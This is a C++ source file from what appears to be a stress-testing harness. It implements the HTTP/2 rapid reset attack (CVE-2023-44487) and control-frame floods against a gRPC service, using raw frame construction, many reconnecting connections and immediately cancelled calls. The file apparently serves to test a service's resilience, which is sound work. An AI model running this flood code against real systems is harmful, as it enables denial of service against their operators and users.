// Attacks on gRPC's door in HTTP/2's own words: calls that are begun and cancelled at once, and
// frames that ask for nothing.
#include "attack.hpp"
#include "foes.hpp"

#include <array>
#include <functional>
#include <vector>

namespace linnet::flood {
namespace {

using bench::kMilli;
using bench::now;

constexpr std::size_t kOverGrpc = 64;
constexpr std::size_t kOfAnAddress = 8;
constexpr std::size_t kAtATime = 16384;  // bytes
constexpr std::size_t kByThoseWhoLeave = 256 << 10;
constexpr std::uint32_t kLastStream = 0x7fffffff;
constexpr auto kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

enum class Http2 : char { kData, kHeaders, kPriority, kReset, kSettings, kPing = 6, kWindow = 8 };

constexpr char kEndHeaders = 4;

std::string number(std::uint32_t value) {
  std::string bytes;
  for (int shift = 24; shift >= 0; shift -= 8)
    bytes += static_cast<char>(value >> static_cast<unsigned>(shift));
  return bytes;
}

std::string frame_of(Http2 type, std::uint32_t stream, const std::string& payload = {},
                     char flags = 0) {
  auto bytes = number(static_cast<std::uint32_t>(payload.size())).substr(1);
  bytes += static_cast<char>(type);
  bytes += flags;
  return bytes + number(stream) + payload;
}

// Its request is to come.
std::string beginning_of_call(const std::string& path, std::uint32_t stream) {
  const auto text = [](const std::string& value) {
    return static_cast<char>(value.size()) + value;
  };
  std::string head{"\x83\x86"};  // POST, http
  head += "\x04" + text(path) + "\x01" + text("x");
  head += std::string(1, '\0') + text("content-type") + text("application/grpc");
  head += std::string(1, '\0') + text("te") + text("trailers");
  return frame_of(Http2::kHeaders, stream, head, kEndHeaders);
}

// What one connection says next, of which it has said so much.
using Words = std::function<std::string(std::size_t foe, std::uint64_t said)>;

// Connections that say what `next` gives as fast as it is taken; those that are cut come back.
// `some_leave`: every other says much at once, and leaves before any of it may have been read.
Outcome pour_http2(const Field& field, const Words& next, const char* what,
                   bool some_leave = false) {
  Foes foes(field.scaled(kOverGrpc));
  std::vector<std::uint64_t> said(foes.size());
  std::uint64_t all = 0;
  while (!field.over) {
    for (std::size_t foe = 0; foe < foes.size(); ++foe) {
      const bool leaves = some_leave && foe % 2 == 1;
      if (leaves && said[foe] > 0) foes.close(foe);
      if (!foes.open(foe)) {
        said[foe] = 0;
        if (foes.connect(foe, field.grpc, kOfAnAddress))
          foes.say(foe, kPreface + frame_of(Http2::kSettings, 0));
        continue;
      }
      if (!foes.say(foe, {})) continue;
      std::string much;
      while (much.size() < (leaves ? kByThoseWhoLeave : kAtATime)) {
        much += next(foe, said[foe]++);
        ++all;
      }
      foes.say(foe, much);
    }
    foes.listen(now() + kMilli, [](std::size_t, std::string& received) { received.clear(); });
  }
  Outcome outcome;
  outcome.did = std::to_string(foes.size()) + " connections, " + std::to_string(all) + " " + what +
                ", " + std::to_string(foes.cut()) + " cut";
  if (all == 0) outcome.faults.emplace_back("nothing was sent");
  return outcome;
}

}  // namespace

// HTTP/2's rapid reset (CVE-2023-44487): a call that is cancelled is none of those under way.
Outcome resets(const Field& field) {
  static const std::array<std::string, 4> kPaths{"/pb.LogicExt/Receive", "/pb.UserExt/SignIn",
                                                 "/pb.LogicExt/SendMessage", "/no.such/Method"};
  return pour_http2(
      field,
      [](std::size_t foe, std::uint64_t said) {
        const auto stream = static_cast<std::uint32_t>(2 * said + 1) & kLastStream;
        constexpr std::uint32_t kCancel = 8;
        return beginning_of_call(kPaths.at(foe / 2 % kPaths.size()), stream) +
               frame_of(Http2::kReset, stream, number(kCancel));
      },
      "calls that were cancelled at once", true);
}

// Each connection sends one kind.
Outcome frames(const Field& field) {
  return pour_http2(
      field,
      [](std::size_t foe, std::uint64_t said) {
        switch (foe % 5) {
          case 0: return frame_of(Http2::kSettings, 0);
          case 1: return frame_of(Http2::kPing, 0, std::string(8, 'p'));
          case 2: return frame_of(Http2::kWindow, 0, number(1));
          case 3: return frame_of(Http2::kPriority, 1, std::string(5, '\0'));
          default:
            return said == 0 ? beginning_of_call("/pb.UserExt/SignIn", 1)
                             : frame_of(Http2::kData, 1);
        }
      },
      "frames that ask for nothing");
}

}  // namespace linnet::flood
